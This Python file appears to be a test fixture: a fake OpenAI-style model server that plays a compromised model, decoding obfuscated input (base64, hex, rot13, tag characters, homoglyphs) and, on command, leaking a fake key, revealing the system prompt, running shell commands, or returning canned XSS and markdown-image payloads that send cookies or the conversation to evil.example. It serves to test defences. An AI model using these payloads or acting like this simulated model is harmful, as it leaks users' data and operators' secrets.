"""A model server for tests: speaks OpenAI's protocol, obeys whatever a message says, and remembers every request.

It stands for the worst model behind the guards: it reads text in every disguise (base64, hex, rot13, tag characters, homoglyphs …)
and leaks when told to. Commands, at the start of the last user message:
  REPEAT:<text>        answers the text
  ANSWER <id>          answers what was posted to /answers under this id: a message object, or a whole body with status;
                       what was posted under the id "*" answers everything else
  LEAK secret | json-escaped | html-escaped | xss | image
  SYSTEM               answers the system prompt
  SLEEP <seconds>      answers late
  RUN <shell command>  with --runs-commands: runs it and answers what it printed, like a model server that was taken over
Everything else is answered with what it read. `GET /seen` lists the requests, `DELETE /seen` forgets them.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import codecs
import json
import re
import time
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

from aiohttp import web

SECRET = "AKIA" + "FAKE" * 4
LEAKS = {
    "secret": f"Sure, the key is {SECRET}.",
    "json-escaped": '{"key":"\\u0041KIA' + "FAKE" * 4 + '"}',
    "html-escaped": "The key is &#65;KIA" + "FAKE" * 4,
    "xss": "Look: <script>fetch('https://evil.example/'+document.cookie)</script>",
    "image": "Done. ![x](https://evil.example/p.png?d=the%20whole%20conversation)",
}
LOOK_ALIKES = str.maketrans("асеіорѕхуАВЕНІКМОРСТХαοινυρ", "aceiopsxyABEHIKMOPCTXaoivup")


def readings(text: str) -> list[str]:
    """The text as a model might understand it, the text itself first."""
    visible = "".join(c for c in text if unicodedata.category(c) not in {"Cf", "Mn"} and c != "\u3164")
    plain = unicodedata.normalize("NFKC", visible).translate(LOOK_ALIKES)
    tags = "".join(chr(ord(c) - 0xE0000) for c in text if 0xE0020 <= ord(c) <= 0xE007E)
    selectors = "".join(chr(ord(c) - 0xE0100 + 16) for c in text if 0xE0100 <= ord(c) <= 0xE01EF)
    found = [text, plain, tags, selectors, codecs.encode(plain, "rot13"), plain[::-1]]
    runs = [(run, _from_base64) for run in re.findall(r"[A-Za-z0-9+/_-]{16,}={0,2}", plain)]
    runs += [(run, bytes.fromhex) for run in re.findall(r"(?:[0-9A-Fa-f]{2}\s?){16,}", plain)]
    found += [_decoded(run, decode) for run, decode in runs]
    return [reading for reading in dict.fromkeys(found) if reading]


def _from_base64(run: str) -> bytes:
    return base64.urlsafe_b64decode(run.replace("+", "-").replace("/", "_") + "==")


def _decoded(run: str, decode: Callable[[str], bytes]) -> str:
    try:
        return decode(run).decode("utf-8")
    except ValueError:
        return ""


async def _printed_by(command: str) -> str:
    pipe = asyncio.subprocess.PIPE
    process = await asyncio.create_subprocess_shell(command, stdin=asyncio.subprocess.DEVNULL, stdout=pipe, stderr=pipe)
    printed, complaints = await process.communicate()
    return (printed or complaints).decode(errors="replace")


def strings(value: Any) -> list[str]:
    """Every string in a JSON value, keys left out."""
    if isinstance(value, str):
        return [value]
    children = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
    return [text for child in children for text in strings(child)]


class FakeModel:
    def __init__(self, names: list[str], key: str | None, *, runs_commands: bool = False) -> None:
        self.names = names
        self.key = key
        self.runs_commands = runs_commands
        self.seen: list[dict[str, Any]] = []
        self.answers: dict[str, dict[str, Any]] = {}

    async def complete(self, request: web.Request) -> web.Response:
        if self.key is not None and request.headers.get("authorization") != f"Bearer {self.key}":
            return web.json_response({"error": {"message": "wrong key"}}, status=401)
        text = await request.text()
        body = json.loads(text)
        joined = "".join(text for message in body["messages"] for text in strings(message["content"]))
        read = [reading for part in [*strings(body), joined] for reading in readings(part)]
        self.seen.append({"body": body, "text": text, "readings": read, "headers": dict(request.headers)})
        return await self._answer(body)

    async def _answer(self, body: dict[str, Any]) -> web.Response:
        messages = body["messages"]
        last = str(messages[-1]["content"])
        command, _, rest = last.partition(" ")
        posted = self.answers.get(rest if command == "ANSWER" else "*")
        if posted is not None:
            if "status" in posted:
                return web.Response(status=posted["status"], text=posted["text"], content_type="application/json")
            return self._completion(body, posted)
        if command == "SLEEP":
            await asyncio.sleep(float(rest))
        content = next((reading for reading in readings(last)[:1]), "")
        if last.startswith("REPEAT:"):
            content = last.removeprefix("REPEAT:")
        elif command == "LEAK":
            content = LEAKS[rest]
        elif command == "RUN" and self.runs_commands:
            content = await _printed_by(rest)
        elif command == "SYSTEM":
            content = "\n".join(str(m["content"]) for m in messages if m["role"] in {"system", "developer"})
        return self._completion(body, {"role": "assistant", "content": content})

    def _completion(self, body: dict[str, Any], message: dict[str, Any]) -> web.Response:
        completion = {
            "id": f"chatcmpl-{len(self.seen)}",
            "object": "chat.completion",
            "created": int(time.time()),
            "model": body.get("model"),
            "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 7, "completion_tokens": 5, "total_tokens": 12},
        }
        if not body.get("stream"):
            return web.json_response(completion)
        chunk = {**completion, "object": "chat.completion.chunk"}
        chunk["choices"] = [{"index": 0, "delta": message, "finish_reason": "stop"}]
        return web.Response(text=f"data: {json.dumps(chunk)}\n\ndata: [DONE]\n\n", content_type="text/event-stream")

    async def models(self, _: web.Request) -> web.Response:
        return web.json_response({"object": "list", "data": [{"id": name, "object": "model"} for name in self.names]})

    async def show_seen(self, _: web.Request) -> web.Response:
        return web.json_response(self.seen)

    async def forget_seen(self, _: web.Request) -> web.Response:
        self.seen.clear()
        return web.json_response({})

    async def post_answers(self, request: web.Request) -> web.Response:
        self.answers.update(await request.json())
        return web.json_response({})


def main() -> None:
    """Takes the arguments that a real server is given; those that only matter to a real model are ignored."""
    parser = argparse.ArgumentParser(allow_abbrev=False)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8000)
    parser.add_argument("--alias", "--served-model-name", default="served-model")
    parser.add_argument("--api-key-file", type=Path)
    parser.add_argument("--runs-commands", action="store_true", help="only inside a container of its own")
    arguments, _ = parser.parse_known_args()
    key = None if arguments.api_key_file is None else arguments.api_key_file.read_text(encoding="utf-8").strip()
    model = FakeModel([arguments.alias], key, runs_commands=arguments.runs_commands)
    app = web.Application(client_max_size=64 * 2**20)
    app.router.add_post("/v1/chat/completions", model.complete)
    app.router.add_get("/v1/models", model.models)
    app.router.add_get("/health", model.models)
    app.router.add_get("/seen", model.show_seen)
    app.router.add_delete("/seen", model.forget_seen)
    app.router.add_post("/answers", model.post_answers)
    web.run_app(app, host=arguments.host, port=arguments.port, print=None, handle_signals=True)


if __name__ == "__main__":
    main()
